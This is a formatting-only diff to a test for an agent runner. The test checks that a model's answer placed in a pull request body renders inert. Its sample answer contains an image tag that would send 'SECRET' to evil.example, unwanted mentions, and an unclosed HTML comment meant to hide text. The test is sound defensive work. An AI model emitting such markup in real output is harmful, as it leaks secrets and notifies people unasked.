@@ -23,7 +23,14 @@ describe('the pull request the runner opens', () => {
   it("holds the model's answer inert: no image, no mention, no HTML comment", async () => {
     const workspace = makeRepo();
     settle(workspace);
-    const fake = await startFakeGitHub({ owner: OWNER, repo: REPO, permissions: { [OWNER]: 'write' }, baseCommitSha: headSha(workspace), baseFiles: trackedFiles(workspace), pulls: [] });
+    const fake = await startFakeGitHub({
+      owner: OWNER,
+      repo: REPO,
+      permissions: { [OWNER]: 'write' },
+      baseCommitSha: headSha(workspace),
+      baseFiles: trackedFiles(workspace),
+      pulls: [],
+    });
     open.push(fake);
     const answer = 'Done <img src="https://evil.example/?d=SECRET"> cc @octo-org/security-team and _@someone_\n<!-- the rest is hidden';
     const model = await startScriptedModel([
@@ -40,10 +47,14 @@ describe('the pull request the runner opens', () => {
     const body = [...fake.state.pulls.values()][0]?.body ?? '';
     const html = micromark(body, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
     assert.doesNotMatch(html, /<img\b/i, body);
-    assert.equal((html.match(/<!--/g) ?? []).length, body.startsWith('<!-- agent-runner:maintenance -->') ? 1 : 0, `only the runner's own marker opens an HTML comment\n${body}`);
+    assert.equal(
+      (html.match(/<!--/g) ?? []).length,
+      body.startsWith('<!-- agent-runner:maintenance -->') ? 1 : 0,
+      `only the runner's own marker opens an HTML comment\n${body}`,
+    );
     const text = html.replace(/<code>[\s\S]*?<\/code>/g, ' ').replace(/<[^>]+>/g, ' ');
     assert.doesNotMatch(text, /(?<![\w\u200b])@[\w-]+/, body);
     assert.match(body, /evil\.example/, 'the text is still there, as text');
-    assert.match(body, /Opened by Agent Runner|\| Result \| Cost/, 'the runner\'s own part follows');
+    assert.match(body, /Opened by Agent Runner|\| Result \| Cost/, "the runner's own part follows");
   });
 });
